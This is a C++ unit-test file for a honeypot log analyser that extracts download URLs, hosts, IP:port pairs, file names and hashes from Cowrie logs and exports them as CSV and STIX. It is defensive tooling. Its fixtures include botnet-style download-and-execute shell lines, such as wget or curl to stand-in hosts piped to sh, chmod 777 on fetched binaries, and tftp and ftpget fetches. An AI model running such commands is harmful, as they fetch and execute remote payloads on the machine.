// The indicators analysis: download URLs, hosts, IP:port pairs, file names and hashes from the
// download tools' syntaxes (through the shell lexer) and from download events, with first/last
// seen, sessions and source addresses; the CSV export.
#include <gtest/gtest.h>

#include <cstdio>
#include <set>

#include "analyze/intel/indicator_extractor.h"
#include "analyze/intel/intel_counts.h"
#include "analyze/report/indicators_csv.h"
#include "analyze/report/intel_report.h"
#include "analyze/report/stix_bundle.h"
#include "analyze_test_support.h"

namespace busytrap::analyze {
namespace {

using intel::IndicatorType;

std::set<std::string> of_type(std::string_view record, IndicatorType type) {
  intel::IndicatorExtractor extractor;
  std::vector<intel::Indicator> out;
  extractor.extract(record, out);
  std::set<std::string> values;
  for (const auto& i : out) {
    if (i.type == type) values.insert(i.value);
  }
  return values;
}
using Set = std::set<std::string>;

TEST(IntelIndicators, WgetAndCurlSyntaxes) {
  EXPECT_EQ(of_type("cd /tmp; wget http://h.example/x.sh; sh x.sh", IndicatorType::Url), Set{"http://h.example/x.sh"});
  EXPECT_EQ(of_type("wget -O - http://1.2.3.4:8080/bins/mips > m; chmod 777 m", IndicatorType::Url),
            Set{"http://1.2.3.4:8080/bins/mips"});
  EXPECT_EQ(of_type("wget -O - http://1.2.3.4:8080/bins/mips", IndicatorType::IpPort), Set{"1.2.3.4:8080"});
  EXPECT_EQ(of_type("wget -O - http://1.2.3.4:8080/bins/mips", IndicatorType::FileName), Set{"mips"});
  EXPECT_EQ(of_type("/bin/busybox wget 5.6.7.8/a.sh -O a.sh", IndicatorType::Url), Set{"http://5.6.7.8/a.sh"});
  EXPECT_EQ(of_type("curl -O http://evil.example/p.arm7", IndicatorType::Host), Set{"evil.example"});
  EXPECT_EQ(of_type("wget -O /tmp/http.bin", IndicatorType::Url), Set{});  // -O's value is not a URL
  EXPECT_EQ(of_type("/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI", IndicatorType::Url), Set{});
}

TEST(IntelIndicators, TftpAndFtpgetSyntaxes) {
  EXPECT_EQ(of_type("tftp -g -r mips 9.8.7.6", IndicatorType::Url), Set{"tftp://9.8.7.6/mips"});
  EXPECT_EQ(of_type("/bin/busybox tftp -r arm7 -g 9.8.7.6 69", IndicatorType::Url), Set{"tftp://9.8.7.6:69/arm7"});
  EXPECT_EQ(of_type("tftp 9.8.7.6 -c get tftp1.sh", IndicatorType::Url), Set{"tftp://9.8.7.6/tftp1.sh"});
  EXPECT_EQ(of_type("ftpget -v -u anonymous -p anonymous -P 21 9.8.7.6 ftp1.sh ftp1.sh", IndicatorType::Url),
            Set{"ftp://9.8.7.6:21/ftp1.sh"});
  EXPECT_EQ(of_type("ftpget -v -u anonymous -p anonymous -P 21 9.8.7.6 ftp1.sh ftp1.sh", IndicatorType::FileName),
            Set{"ftp1.sh"});
  EXPECT_EQ(of_type("tftp -g -r", IndicatorType::Url), Set{});  // incomplete: nothing, no crash
}

TEST(IntelIndicators, UrlsInsideScriptsAndIpPortWords) {
  EXPECT_EQ(of_type("sh -c 'cd /tmp; wget http://192.0.2.42/x.sh; sh x.sh'", IndicatorType::Url),
            Set{"http://192.0.2.42/x.sh"});
  EXPECT_EQ(of_type("echo \"curl https://a.example/b|sh\" > /tmp/s", IndicatorType::Url), Set{"https://a.example/b"});
  EXPECT_EQ(of_type("./bot 203.0.113.5:23", IndicatorType::IpPort), Set{"203.0.113.5:23"});
  EXPECT_EQ(of_type("echo 999.1.1.1:80 1.2.3:4", IndicatorType::IpPort), Set{});
}

// The prefilter skips records without a URL, a port or a host, such as a scanner's probe of
// which download tools exist, and keeps those the extractor finds something in.
TEST(IntelIndicators, PrefilterSkipsToolNamesWithoutAHost) {
  using intel::IndicatorExtractor;
  EXPECT_FALSE(IndicatorExtractor::may_have_indicators("tftp; wget; /bin/busybox QWMES"));
  EXPECT_FALSE(IndicatorExtractor::may_have_indicators("cd /tmp; curl"));
  EXPECT_FALSE(IndicatorExtractor::may_have_indicators("cat .s; /bin/busybox ECCHI"));
  EXPECT_TRUE(IndicatorExtractor::may_have_indicators("wget example.com/x"));
  EXPECT_EQ(of_type("wget example.com/x", IndicatorType::Host), Set{"example.com"});
  EXPECT_EQ(of_type("tftp -g -r a 10.0.0.1", IndicatorType::Host), Set{"10.0.0.1"});
  EXPECT_EQ(of_type("ftpget -v 10.0.0.2 l r", IndicatorType::Host), Set{"10.0.0.2"});
  EXPECT_EQ(of_type("echo 10.0.0.3:23", IndicatorType::IpPort), Set{"10.0.0.3:23"});
  EXPECT_EQ(of_type("sh -c \"x=http://h.example/a\"", IndicatorType::Url), Set{"http://h.example/a"});
}

TEST(IntelIndicators, HostileInputIsBounded) {
  std::string many;
  for (int i = 0; i < 500; ++i) many += "wget http://h" + std::to_string(i) + ".example/x; ";
  intel::IndicatorExtractor extractor;
  std::vector<intel::Indicator> out;
  extractor.extract(many, out);
  EXPECT_EQ(out.size(), intel::kMaxIndicatorsPerRecord);
  out.clear();
  extractor.extract(std::string("wget 'http://\0\xff\x01unterminated", 28), out);
  extractor.extract(std::string(100000, ':'), out);
  SUCCEED();
}

TEST(IntelIndicators, PipelineCountsSessionsSourcesAndTimesAndExportsCsv) {
  testing::TempDir dir;
  auto ev = [](const std::string& id, const std::string& session, const std::string& ts, const std::string& more) {
    return R"({"eventid":")" + id + R"(","session":")" + session + R"(","timestamp":")" + ts + "\"" + more + "}\n";
  };
  const std::string sha(64, 'a');
  const std::string log =
      ev("cowrie.session.connect", "s1", "2024-05-01T00:00:00Z", R"(,"src_ip":"192.0.2.1")") +
      ev("cowrie.command.input", "s1", "2024-05-01T00:00:01Z", R"(,"input":"wget http://203.0.113.9/a.sh")") +
      ev("cowrie.command.input", "s1", "2024-05-01T00:00:02Z", R"(,"input":"wget http://203.0.113.9/a.sh")") +
      ev("cowrie.session.file_download", "s1", "2024-05-01T00:00:03Z",
         R"(,"url":"http://203.0.113.9/a.sh","shasum":")" + sha + "\"") +
      ev("cowrie.session.closed", "s1", "2024-05-01T00:00:04Z", "") +
      ev("cowrie.session.connect", "s2", "2024-05-02T00:00:00Z", R"(,"src_ip":"192.0.2.2")") +
      ev("cowrie.command.input", "s2", "2024-05-02T00:00:01Z", R"(,"input":"tftp -g -r a.sh 203.0.113.9")") +
      ev("cowrie.session.closed", "s2", "2024-05-02T00:00:04Z", "");
  const std::string path = dir.file("i.json", log);
  AnalysisOptions options;
  options.intel.indicators = true;
  for (std::size_t chunk : {std::size_t{8} << 20, std::size_t{120}}) {
    options.chunk_bytes = chunk;
    Analysis analysis(options);
    PipelineReport pipeline;
    std::string error;
    ASSERT_TRUE(AnalyzePipeline(options).run({path}, analysis, pipeline, error)) << error;
    const IntelReport report = build_intel_report(analysis.intel(), intel::CredentialTable{}, 0);
    std::map<std::string, std::map<std::string, std::uint64_t>> tables;
    for (const auto& t : report.tables) tables[t.id] = testing::as_map(t);
    EXPECT_EQ(tables["indicators_url"], (std::map<std::string, std::uint64_t>{{"http://203.0.113.9/a.sh", 1},
                                                                               {"tftp://203.0.113.9/a.sh", 1}}));
    EXPECT_EQ(tables["indicators_host"], (std::map<std::string, std::uint64_t>{{"203.0.113.9", 2}}));
    EXPECT_EQ(tables["indicators_file_name"], (std::map<std::string, std::uint64_t>{{"a.sh", 2}}));
    EXPECT_EQ(tables["indicators_sha256"], (std::map<std::string, std::uint64_t>{{sha, 1}}));
    const std::string csv = render_indicators_csv(analysis.intel());
    EXPECT_NE(csv.find("url,http://203.0.113.9/a.sh,2024-05-01T00:00:01.000000Z,2024-05-01T00:00:03.000000Z,3,1,"
                       "192.0.2.1\n"),
              std::string::npos)
        << csv;
    EXPECT_NE(csv.find("host,203.0.113.9,2024-05-01T00:00:01.000000Z,2024-05-02T00:00:01.000000Z,4,2,"
                       "192.0.2.1 192.0.2.2\n"),
              std::string::npos)
        << csv;
    EXPECT_EQ(csv.substr(0, csv.find('\n')), "type,value,first_seen,last_seen,occurrences,sessions,source_ips");
    const std::string stix = render_stix_bundle(analysis.intel());
    // The url SCO's id is STIX 2.1's deterministic one (checked with Python's uuid.uuid5).
    EXPECT_NE(stix.find(R"("id":"url--2b46e093-cf58-5cfe-b2d0-1708ef669fa8","value":"http://203.0.113.9/a.sh")"),
              std::string::npos)
        << stix;
    EXPECT_NE(stix.find(R"("pattern":"[file:hashes.'SHA-256' = ')" + sha + R"(']")"), std::string::npos);
    EXPECT_NE(stix.find(R"("first_observed":"2024-05-01T00:00:01.000000Z","last_observed":"2024-05-02T00:00:01.000000Z")"),
              std::string::npos);
  }
}

// Reads facts->indicators: the Analysis then lists every occurrence there instead of keeping a
// command record's indicators with its item.
class IndicatorReader final : public SessionObserver {
 public:
  void session_finished(const Analysis&, const FinishedSession& session) override {
    listed += session.facts->indicators.size();
  }
  std::uint64_t listed = 0;
};

// The per-session limit keeps the first kMaxPendingIndicators occurrences in input order, a
// download event's in between the records' and part of a record's when the limit falls inside
// it, whether the occurrences are kept with the records or listed for an observer.
TEST(IntelIndicators, RecordsKeepTheirIndicatorsUpToTheSessionLimitLikeAListingObserver) {
  testing::TempDir dir;
  auto ev = [](const std::string& id, const std::string& session, int second, const std::string& more) {
    char ts[32];
    std::snprintf(ts, sizeof ts, "2024-05-01T00:%02d:%02dZ", second / 60, second % 60);
    return R"({"eventid":")" + id + R"(","session":")" + session + R"(","timestamp":")" + ts + "\"" + more + "}\n";
  };
  const std::string wget = R"(,"input":"wget http://203.0.113.9/a.sh")";  // url, host, file name
  std::string log = ev("cowrie.session.connect", "s1", 0, R"(,"src_ip":"192.0.2.1")");
  for (int i = 0; i < 400; ++i) {
    log += ev("cowrie.command.input", "s1", i, wget);
    // 3 more occurrences: 1021 before the limit is not a multiple of 3, so one record is cut.
    if (i == 200) log += ev("cowrie.session.file_download", "s1", i, R"(,"url":"http://198.51.100.4/b.sh")");
  }
  log += ev("cowrie.command.input", "s1", 400, R"(,"input":"curl http://198.51.100.7/late.sh")");
  log += ev("cowrie.session.closed", "s1", 401, "");
  log += ev("cowrie.command.input", "s2", 402, wget) + ev("cowrie.session.closed", "s2", 403, "");
  const std::string path = dir.file("limit.json", log);
  const std::size_t total = 400 * 3 + 3 + 3;
  const std::size_t dropped = total - intel::kMaxPendingIndicators;
  for (std::size_t chunk : {std::size_t{8} << 20, std::size_t{900}}) {
    AnalysisOptions options;
    options.intel.indicators = true;
    options.chunk_bytes = chunk;
    Analysis kept(options), listed(options);
    IndicatorReader reader;
    listed.add_observer(&reader);
    for (Analysis* analysis : {&kept, &listed}) {
      PipelineReport pipeline;
      std::string error;
      ASSERT_TRUE(AnalyzePipeline(options).run({path}, *analysis, pipeline, error)) << error;
    }
    EXPECT_EQ(reader.listed, intel::kMaxPendingIndicators + 3);
    for (const Analysis* analysis : {&kept, &listed}) {
      const intel::IntelCounts& counts = analysis->intel();
      EXPECT_EQ(counts.indicators_dropped(), dropped);
      std::map<std::string, std::uint64_t> occurrences;
      for (std::uint32_t id = 0; id < counts.indicators().size(); ++id) {
        if (counts.indicators()[id].occurrences > 0) occurrences[std::string(counts.keys().key(id)).substr(1)] =
            counts.indicators()[id].occurrences;
      }
      // The record cut by the limit kept its URL alone; the late record is dropped whole.
      EXPECT_EQ(occurrences["http://203.0.113.9/a.sh"], occurrences["203.0.113.9"] + 1);
      EXPECT_EQ(occurrences["http://198.51.100.4/b.sh"], 1u);
      EXPECT_EQ(occurrences.count("http://198.51.100.7/late.sh"), 0u);
      std::uint64_t sum = 0;
      for (const auto& [key, n] : occurrences) sum += n;
      EXPECT_EQ(sum, intel::kMaxPendingIndicators + 3);
    }
    for (std::uint32_t id = 0; id < kept.intel().indicators().size(); ++id) {
      const intel::IndicatorStats& a = kept.intel().indicators()[id];
      const intel::IndicatorStats& b = listed.intel().indicators()[id];
      EXPECT_EQ(a.occurrences, b.occurrences) << id;
      EXPECT_EQ(a.sessions, b.sessions) << id;
      EXPECT_EQ(a.first_seen, b.first_seen) << id;
      EXPECT_EQ(a.last_seen, b.last_seen) << id;
      EXPECT_EQ(std::vector<std::uint32_t>(a.source_ips().begin(), a.source_ips().end()),
                std::vector<std::uint32_t>(b.source_ips().begin(), b.source_ips().end()))
          << id;
    }
  }
}

TEST(IntelIndicators, CountsEachSessionOncePerIndicatorWhateverItsOrder) {
  intel::IntelSelection selection;
  selection.indicators = true;
  intel::IntelCounts counts(selection);
  const std::vector<std::uint32_t>& ids = counts.learn_keys(1, false, 0, {"\x01a", "\x01b"});
  const std::uint32_t a = ids[0], b = ids[1];
  const std::uint32_t source = counts.intern_source("192.0.2.1");
  intel::SessionFacts first;
  first.src_ip = source;
  first.indicators = {{b, 30}, {a, 10}, {b, 20}, {a, 40}};
  counts.count_session(first, true);
  intel::SessionFacts second;  // no source address
  second.indicators = {{a, 5}, {a, 50}};
  counts.count_session(second, true);
  counts.count_session(first, true);  // the same facts again: a third session
  const auto& stats = counts.indicators();
  EXPECT_EQ(stats[a].sessions, 3u);
  EXPECT_EQ(stats[a].occurrences, 6u);
  EXPECT_EQ(stats[a].first_seen, 5);
  EXPECT_EQ(stats[a].last_seen, 50);
  EXPECT_EQ(stats[b].sessions, 2u);
  EXPECT_EQ(stats[b].occurrences, 4u);
  ASSERT_EQ(stats[a].source_ips().size(), 1u);
  EXPECT_EQ(stats[a].source_ips()[0], source);
  ASSERT_EQ(stats[b].source_ips().size(), 1u);
  EXPECT_EQ(stats[b].source_ips()[0], source);
  // The first kMaxSourcesPerIndicator distinct addresses are kept in order, then marked as more.
  std::vector<std::uint32_t> addresses{source};
  for (std::uint32_t i = 0; i < intel::kMaxSourcesPerIndicator + 3; ++i) {
    intel::SessionFacts facts;
    facts.src_ip = counts.intern_source("198.51.100." + std::to_string(i % (intel::kMaxSourcesPerIndicator + 1)));
    if (addresses.size() < intel::kMaxSourcesPerIndicator &&
        std::find(addresses.begin(), addresses.end(), facts.src_ip) == addresses.end()) {
      addresses.push_back(facts.src_ip);
    }
    facts.indicators = {{b, 60}};
    counts.count_session(facts, true);
    EXPECT_EQ(counts.indicators()[b].more_sources, i >= intel::kMaxSourcesPerIndicator - 1) << i;
  }
  const auto kept = counts.indicators()[b].source_ips();
  EXPECT_EQ(std::vector<std::uint32_t>(kept.begin(), kept.end()), addresses);
}

TEST(IntelIndicators, UuidV5MatchesRfc4122) {
  EXPECT_EQ(uuid_v5("6ba7b810-9dad-11d1-80b4-00c04fd430c8", "python.org"), "886313e1-3b8a-5372-9b90-0c9aee199e5d");
}

}  // namespace
}  // namespace busytrap::analyze
